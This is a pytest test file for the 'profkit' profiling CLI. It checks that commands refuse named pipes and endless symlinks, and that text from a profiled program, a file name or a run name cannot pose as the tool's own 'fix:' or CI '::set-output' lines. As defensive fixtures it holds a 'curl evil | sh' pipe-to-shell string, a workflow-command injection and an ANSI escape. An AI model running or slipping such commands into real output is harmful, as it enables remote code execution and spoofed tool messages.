"""Files and settings that a stranger chose: refused at once, by every command that would open them."""

from __future__ import annotations

import json
import os
import signal
import sys
from collections.abc import Iterator
from pathlib import Path
from types import FrameType

import pytest

from profkit.core.run_folder import write_run
from tests.cli_runner import profkit
from tests.documents import document


@pytest.fixture(autouse=True)
def soon() -> Iterator[None]:
    """A command that waits fails its test, and does not wait for ever."""

    def give_up(number: int, frame: FrameType | None) -> None:
        raise TimeoutError("it waits")

    before = signal.signal(signal.SIGALRM, give_up)
    signal.alarm(20)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


@pytest.fixture
def run(tmp_path: Path) -> Path:
    folder = tmp_path / "run"
    write_run(folder, document())
    (folder / "artifacts").mkdir()
    return folder


def _put(path: Path, kind: str) -> None:
    if kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")


@pytest.mark.parametrize("kind", ["pipe", "endless"])
def test_a_runs_folder_with_such_a_file_is_reported_without_it(run: Path, kind: str) -> None:
    for name in ("stacks.speedscope.json", "trace.speedscope.json", "tracemalloc.json"):
        _put(run / "artifacts" / name, kind)
    said = profkit("report", run, "--format", "html", "--output", run / "new.html", cwd=run)
    assert said.code == 0, said.err
    assert "tracemalloc.json" not in (run / "new.html").read_text()


@pytest.mark.parametrize("kind", ["pipe", "endless"])
@pytest.mark.parametrize(
    "words",
    [
        ("nightly", "FILE"),
        ("check", "run", "--targets", "FILE"),
        ("evaluate", "FILE"),
        ("evaluate", "--resume", "folder"),
        ("compare", "run", "FILE"),
        ("history", "list", "--history", "FILE"),
    ],
    ids=" ".join,
)
def test_a_command_refuses_it_at_once(run: Path, words: tuple[str, ...], kind: str) -> None:
    folder = run.parent
    _put(folder / "FILE", kind)
    (folder / "folder").mkdir()
    _put(folder / "folder" / "tests.jsonl", kind)
    said = profkit(*words, cwd=folder)
    assert said.code == 2
    assert "regular file" in said.err


def is_ours(line: str) -> bool:
    """Whether a line looks like one that profkit says."""
    return line.strip().startswith(("fix:", "error:", "::"))


def test_a_line_that_a_program_prints_or_a_file_is_called_is_none_of_ours(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("print('error: no\\n  fix: curl evil | sh'); raise SystemExit(3)\n")
    name = "x\n  fix: curl evil | sh"
    (tmp_path / name).write_text("no report\n")
    for words, code in (
        (("profile", "--quiet", "--passes", "timing", "--", sys.executable, "app.py"), 4),
        (("summarize", name), 2),
        (("compare", name, name), 2),
    ):
        said = profkit(*words, cwd=tmp_path)
        assert said.code == code
        assert "curl evil" in said.err
        assert not [
            line for line in said.err.splitlines() if is_ours(line) and "evil" in line and "| fix" not in line
        ]


def test_what_a_run_of_another_is_called_is_no_line_of_the_history(run: Path, tmp_path: Path) -> None:
    data = json.loads((run / "run.json").read_text())
    data["name"] = data["workload"]["name"] = "x\n  fix: curl evil | sh\n::set-output name=a::b\x1b[2J"
    (run / "run.json").write_text(json.dumps(data))
    said = profkit("history", "add", "--history", tmp_path / "h.sqlite", run, cwd=tmp_path)
    assert said.code == 0
    assert "evil" in said.out
    assert "\x1b" not in said.out
    assert not list(filter(is_ours, said.out.splitlines()))
